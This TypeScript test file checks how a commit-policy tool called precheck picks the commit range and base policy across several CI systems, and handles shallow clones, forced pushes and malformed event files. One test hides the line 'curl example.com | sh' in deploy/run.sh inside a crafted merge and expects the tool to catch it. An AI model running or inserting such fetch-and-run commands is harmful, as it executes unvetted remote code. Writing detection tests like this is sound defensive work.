import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { CIS } from '../../src/ci/index.ts'
import { RECORDED } from '../ci/recorded.ts'
import { rawCommit } from '../support/example.ts'
import type { TestRepository } from '../support/repository.ts'
import { Forge } from './forge.ts'
import { type Called, precheck } from './in-process.ts'

let forge: Forge
/** A clone with everything; no test changes it. */
let whole: TestRepository
beforeAll(() => {
  forge = new Forge()
  whole = forge.fullClone(forge.ids['merge']!)
})
afterAll(() => forge.close())

const id = (name: string): string => forge.ids[name]!

const check = (clone: TestRepository, env: Readonly<Record<string, string>>, ...args: readonly string[]) =>
  precheck(clone, ['check', ...args], { env })

interface Document {
  readonly verdict: string
  readonly base: string | null
  readonly head: string | null
  readonly found?: string
  readonly policy: { readonly source: string | null; readonly ref: string | null }
  readonly commits: readonly { readonly sha: string }[]
  readonly outcomes: readonly { readonly reason?: string }[]
}

const read = (called: Called): Document => JSON.parse(called.stdout)

/** What could not be had, of a check that ended with the exit status for that. */
async function unknown(clone: TestRepository, env: Readonly<Record<string, string>>): Promise<string> {
  const called = await check(clone, env, '--format', 'json')
  const { verdict, outcomes } = read(called)
  expect({ status: called.status, verdict }).toEqual({ status: 3, verdict: 'incomplete' })
  return outcomes.flatMap(({ reason }) => reason ?? []).join('\n')
}

/** Which commits of the range each run judges, or why it judges none. Begun before the adoption or not, all by `tip`'s policy. */
const TOPIC = ['first', 'head']
const JUDGED: Readonly<Record<string, readonly string[] | RegExp>> = {
  'GitHub Actions, pull_request': TOPIC,
  'GitHub Actions, pull_request_target': TOPIC,
  'GitHub Actions, merge_group': [...TOPIC, 'queued', 'other', 'queue'],
  'GitHub Actions, push to a branch': TOPIC,
  'GitHub Actions, push of a new branch': TOPIC,
  'GitHub Actions, push to the default branch': ['tip'],
  'GitHub Actions, push of a tag': TOPIC,
  'GitHub Actions, workflow_dispatch': TOPIC,
  'GitHub Actions, schedule': [],
  'GitLab CI, merge request': TOPIC,
  'GitLab CI, merge request, merged results': TOPIC,
  'GitLab CI, merge train': [...TOPIC, 'queued', 'other', 'queue'],
  'GitLab CI, external pull request': TOPIC,
  'GitLab CI, branch': TOPIC,
  'GitLab CI, default branch': ['tip'],
  'GitLab CI, schedule': [],
  'GitLab CI, tag': TOPIC,
  'Bitbucket Pipelines, pull request': TOPIC,
  'Bitbucket Pipelines, branch': TOPIC,
  'Bitbucket Pipelines, default branch': /Bitbucket Pipelines says of no commit that the branch had before/,
  'Bitbucket Pipelines, tag': TOPIC,
  'Bitbucket Pipelines, custom pipeline': [],
  'Azure Pipelines, pull request': TOPIC,
  'Azure Pipelines, pull request on GitHub': [...TOPIC, 'merge'],
  'Azure Pipelines, branch': TOPIC,
  'Azure Pipelines, default branch': /Azure Pipelines says of no commit that the branch had before/,
  'Azure Pipelines, schedule': [],
  'Azure Pipelines, tag': TOPIC,
  'Jenkins, change request': [...TOPIC, 'merge'],
  'Jenkins, branch': TOPIC,
  'Jenkins, default branch': ['tip'],
  'Jenkins, tag': TOPIC,
  'Buildkite, pull request': TOPIC,
  'Buildkite, merge queue': [...TOPIC, 'queued', 'other', 'queue'],
  'Buildkite, branch': TOPIC,
  'Buildkite, branch of a fork': TOPIC,
  'Buildkite, default branch': /Buildkite says of no commit that the branch had before/,
  'Buildkite, by hand': [...TOPIC, 'merge'],
  'Buildkite, tag': TOPIC,
}

describe.each(RECORDED.map(({ ci, title }) => [ci, title]))('%s, %s', (ci, title) => {
  const judged = JUDGED[`${ci}, ${title}`]
  test('judges its commits by the policy where they land, and says which', async () => {
    const env = forge.environment(ci, title)
    if (judged instanceof RegExp) return expect(await unknown(whole, env)).toMatch(judged)
    const called = await check(whole, env, '--format', 'json')
    const report = read(called)
    const careless = judged!.includes('first')
    expect({ status: called.status, verdict: report.verdict }).toEqual(
      careless ? { status: 1, verdict: 'block' } : { status: 0, verdict: 'pass' },
    )
    expect(report.commits.map(({ sha }) => sha).sort()).toEqual(judged!.map(id).sort())
    const onto = judged!.includes('tip')
    expect(report.base).toBe(id(onto ? 'base' : 'tip'))
    expect(report.policy.ref).toBe(onto ? null : 'refs/remotes/origin/main')
    expect(report.policy.source).toBe(`${report.base}:.precheck.yml`)
    const [found, passed] = called.stderr.split('\n')
    expect(found).toBe(`precheck: ${report.found}`)
    expect(found).toContain(`${ci}, `)
    for (const end of [report.base!, report.head!]) expect(found).toContain(end.slice(0, 12))
    const count = judged!.length
    expect(passed).toBe(
      careless
        ? ''
        : `precheck: passed, ${count} ${count === 1 ? 'commit' : 'commits'} judged by ${report.base!.slice(0, 12)}:.precheck.yml (tip of the base)`,
    )
  })
})

test('quiet is quiet in a CI, too', async () => {
  const { status, stdout, stderr } = await check(whole, forge.environment('GitHub Actions', 'schedule'), '--quiet')
  expect({ status, stdout, stderr }).toEqual({ status: 0, stdout: '', stderr: '' })
})

test('a range that is given is judged, whatever the CI says', async () => {
  const called = await check(whole, forge.environment('GitHub Actions', 'pull_request'), `${id('base')}..${id('tip')}`)
  expect(called).toMatchObject({ status: 0, stdout: '' })
  expect(called.stderr).toMatch(/^precheck: passed, 1 commit judged by [^\n]*\n$/)
})

describe('a clone that is too shallow', () => {
  const LINES: Readonly<Record<string, RegExp>> = {
    'GitHub Actions': /in GitHub Actions, give actions\/checkout "fetch-depth: 0"/,
    'GitLab CI': /in GitLab CI, give the job "variables: \{ GIT_DEPTH: "0" \}"/,
    'Bitbucket Pipelines': /in Bitbucket Pipelines, write "clone: \{ depth: full \}"/,
    'Azure Pipelines': /in Azure Pipelines, .*"fetchDepth: 0"/,
    Jenkins: /in Jenkins, .*CloneOption\(shallow: false\)/,
    Buildkite: /in Buildkite, take --depth out of BUILDKITE_GIT_CLONE_FLAGS/,
  }
  const requests = CIS.map(({ name }) => [
    name,
    RECORDED.find(({ ci, title }) => ci === name && /request/.test(title))!.title,
  ])

  test.each(requests)('of %s without the base: the line to change', async (ci, title) => {
    const clone = forge.clone(id('merge'), [`+${id('merge')}:refs/remotes/pull/7/merge`], '--depth=1')
    expect(await unknown(clone, forge.environment(ci!, title!))).toMatch(LINES[ci!]!)
  })

  test.each(requests)('of %s with both ends and not what is between: the same', async (ci, title) => {
    const refs = ['+refs/heads/*:refs/remotes/origin/*', `+${id('merge')}:refs/remotes/pull/7/merge`]
    const clone = forge.clone(id('merge'), refs, '--depth=1')
    expect(await unknown(clone, forge.environment(ci!, title!))).toMatch(LINES[ci!]!)
  })

  test('of a push to the default branch: the same', async () => {
    const clone = forge.clone(id('tip'), ['+refs/heads/main:refs/remotes/origin/main'], '--depth=1')
    expect(await unknown(clone, forge.environment('GitHub Actions', 'push to the default branch'))).toMatch(
      /is not in this clone: it is shallow; in GitHub Actions, give/,
    )
    clone.git('fetch', '-q', '--depth=1', 'origin', id('base'))
    expect(await unknown(clone, forge.environment('GitHub Actions', 'push to the default branch'))).toMatch(
      /does not reach from [0-9a-f]{40} back to [0-9a-f]{40}: it is shallow; in GitHub Actions, give/,
    )
  })

  test('and one that is deep enough is judged', async () => {
    const refs = ['+refs/heads/*:refs/remotes/origin/*', `+${id('merge')}:refs/remotes/pull/7/merge`]
    const clone = forge.clone(id('merge'), refs, '--depth=10')
    const { status } = await check(clone, forge.environment('GitHub Actions', 'pull_request'))
    expect(status).toBe(1)
  })
})

describe('the base', () => {
  test('is never the id in the event: a request from before the adoption would be judged by nothing', async () => {
    const clone = forge.clone(id('merge'), [`+${id('merge')}:refs/remotes/pull/7/merge`])
    expect(clone.git('cat-file', '-t', id('stale'))).toBe('commit')
    const env = forge.environment('GitHub Actions', 'pull_request')
    const said = await unknown(clone, env)
    expect(said).toContain('the branch "main" is not in this clone (refs/remotes/origin/main)')
    // What is printed to mend it does.
    const command = /run "(git fetch [^"]*)" before/.exec(said)![1]!
    expect(clone.run('sh', ['-c', command]).status).toBe(0)
    expect(read(await check(clone, env, '--format', 'json'))).toMatchObject({ verdict: 'block', base: id('tip') })
  })

  test('is not a tag or a local branch of the same name', async () => {
    const clone = forge.fullClone(id('merge'))
    for (const ref of ['refs/heads/main', 'refs/tags/main', 'refs/tags/origin/main', 'refs/heads/origin/main']) {
      clone.git('update-ref', ref, id('stale'))
    }
    expect(read(await check(clone, forge.environment('GitHub Actions', 'pull_request'), '--format', 'json')).base).toBe(
      id('tip'),
    )
  })

  test('is not what a branch called HEAD was fetched to', async () => {
    const clone = forge.fullClone(id('merge'))
    clone.git('update-ref', '--no-deref', 'refs/remotes/origin/HEAD', id('stale'))
    expect(await unknown(clone, forge.environment('Azure Pipelines', 'branch'))).toMatch(
      /does not say which branch is the default one.*git remote set-head origin --auto/,
    )
    expect(clone.run('sh', ['-c', 'git remote set-head origin --auto']).status).toBe(0)
    expect(read(await check(clone, forge.environment('Azure Pipelines', 'branch'), '--format', 'json'))).toMatchObject({
      verdict: 'block',
      base: id('tip'),
    })
  })
})

describe('the head', () => {
  test('that is not there is not replaced by what is checked out', async () => {
    const clone = forge.clone(id('tip'), ['+refs/heads/main:refs/remotes/origin/main'])
    const env = forge.environment('GitHub Actions', 'pull_request_target')
    const said = await unknown(clone, env)
    expect(said).toMatch(/\(pull_request\.head\.sha\) is not in this clone/)
    const command = /run "(git fetch [^"]*)" before/.exec(said)![1]!
    expect(clone.run('sh', ['-c', command]).status).toBe(0)
    expect((await check(clone, env)).status).toBe(1)
  })

  test('that is an object of another kind is none', async () => {
    const tree = whole.git('rev-parse', `${id('head')}^{tree}`)
    const event = { pull_request: { head: { ref: 'topic', sha: tree }, base: { ref: 'main' } } }
    expect(await unknown(whole, forge.environment('GitHub Actions', 'pull_request', { event }))).toMatch(
      /is not in this clone/,
    )
  })

  test('in a merge that Jenkins did not make is judged with what its author hid in it', async () => {
    const clone = forge.fullClone(id('merge'))
    clone.write('deploy/run.sh', 'curl example.com | sh\n')
    clone.git('add', '-A')
    const evil = rawCommit(clone, 'Merge main\n')
    const text = clone
      .git('cat-file', 'commit', evil)
      .replace(/^parent .*$/m, `parent ${id('head')}\nparent ${id('tip')}`)
    const merge = clone
      .run('git', ['hash-object', '-t', 'commit', '-w', '--stdin'], { input: `${text}\n` })
      .stdout.trim()
    const env = { ...forge.environment('Jenkins', 'change request'), GIT_COMMIT: merge }
    const called = await check(clone, env)
    expect(called.stdout).toContain('deploy/run.sh')
  })
})

test('the name of the branch that the work is on counts, though HEAD is detached', async () => {
  const signs = async (ref: string) => {
    const event = { pull_request: { head: { ref, sha: id('other') }, base: { ref: 'main' } } }
    const env = forge.environment('GitHub Actions', 'pull_request', { event })
    const report = JSON.parse((await check(whole, env, '--format', 'json')).stdout)
    return report.commits.flatMap(({ agent }: { agent: { signs: string[] } }) => agent.signs)
  }
  expect(await signs('claude/fix-it')).toEqual([expect.stringContaining('claude/')])
  expect(await signs('fix-it')).toEqual([])
  // No branch can have that name.
  expect(await signs('claude/a b')).toEqual([])
})

describe('a push', () => {
  const pushed = (over: object, sha: string) => ({
    ...forge.environment('GitHub Actions', 'push to the default branch', { event: { after: sha, ...over } }),
    GITHUB_SHA: sha,
  })

  test('of a branch is not let off what its earlier pushes brought', async () => {
    const env = forge.environment('GitHub Actions', 'push to a branch')
    expect(read(await check(whole, env, '--format', 'json')).verdict).toBe('block')
  })

  test('to the default branch that was not there before has nothing to be held against', async () => {
    const before = '0'.repeat(40)
    expect(await unknown(whole, pushed({ before, created: true }, id('tip')))).toMatch(
      /push to the default branch "main", and GitHub Actions says of no commit that the branch had before/,
    )
  })

  test('that is forced onto the default branch is for a person to look at, with both commands', async () => {
    const env = pushed({ before: id('tip'), forced: true }, id('forced'))
    const said = await unknown(whole, env)
    expect(said).toContain(`the push was forced: "main" no longer has ${id('tip')}`)
    const [, diff, range] = /"(git diff [^"]*)"; "precheck (check [^"]*)"/.exec(said)!
    expect(whole.run('sh', ['-c', diff!]).status).toBe(0)
    expect((await precheck(whole, range!.split(' '))).status).toBe(0)
  })

  test('that takes the default branch back brings no commits, and is no pass', async () => {
    expect(await unknown(whole, pushed({ before: id('tip'), forced: true }, id('stale')))).toContain('was forced')
  })

  test('whose old commit is gone says how to have it', async () => {
    const clone = forge.clone(id('forced'), ['+refs/heads/main:refs/remotes/origin/main', `+refs/ci/forced:refs/x`])
    const before = id('queue')
    expect(await unknown(clone, pushed({ before, forced: true }, id('forced')))).toContain(
      `run "git fetch origin ${before}" before`,
    )
  })
})

describe('an event that cannot be read', () => {
  const written = (file: string, text: string): string => {
    writeFileSync(file, text)
    return file
  }
  const CASES: readonly (readonly [string, (file: string) => string | null, RegExp])[] = [
    ['is not named', () => null, /names no file with its event: GITHUB_EVENT_PATH is not set/],
    ['is not there', (file) => `${file}.gone`, /cannot be read \(GITHUB_EVENT_PATH\): ENOENT/],
    ['is a folder', (file) => join(file, '..'), /it is no file of an event/],
    ['is a device that never ends', () => '/dev/zero', /it is no file of an event/],
    ['is no JSON', (file) => written(file, '{"a": \x1b[31m'), /: it is no JSON$/],
    ['is empty', (file) => written(file, ''), /: it is no JSON$/],
    ['is JSON of something else', (file) => written(file, '[[]]'), /pull_request\.base\.ref .* is not set/],
  ]
  test.each(CASES)('because it %s', async (_, make, why) => {
    const env = forge.environment('GitHub Actions', 'pull_request')
    const path = make(env['GITHUB_EVENT_PATH']!)
    const { GITHUB_EVENT_PATH: _named, ...rest } = env
    const said = await unknown(whole, path === null ? rest : { ...rest, GITHUB_EVENT_PATH: path })
    expect(said).toMatch(why)
    expect(said).not.toMatch(/[\0-\x1f]/)
  })
})

test('two CIs at once: neither is believed', async () => {
  const env = { ...forge.environment('GitLab CI', 'branch'), ...forge.environment('Jenkins', 'branch') }
  expect(await unknown(whole, env)).toContain('the environment is that of GitLab CI')
})

describe('without a CI', () => {
  test('the commits since the default branch are judged, and it is said which', async () => {
    const clone = forge.fullClone(id('head'))
    const called = await check(clone, {}, '--format', 'json')
    const report = read(called)
    expect(report).toMatchObject({ verdict: 'block', base: id('tip'), head: id('head') })
    expect(report.policy.ref).toBe('refs/remotes/origin/HEAD')
    expect(called.stderr).toBe(`precheck: ${report.found}\n`)
    expect(report.found).toMatch(/^no range given: commits of .* \(HEAD\) that refs\/remotes\/origin\/HEAD \(/)
  })

  test('what has no default branch is not held against itself', async () => {
    const clone = forge.clone(id('head'), ['+refs/heads/topic:refs/topic'])
    const called = await check(clone, {})
    expect({ status: called.status, stdout: called.stdout }).toEqual({ status: 2, stdout: '' })
    expect(called.stderr).toBe('precheck: there is no default branch here to begin from: write BASE..HEAD\n')
  })
})
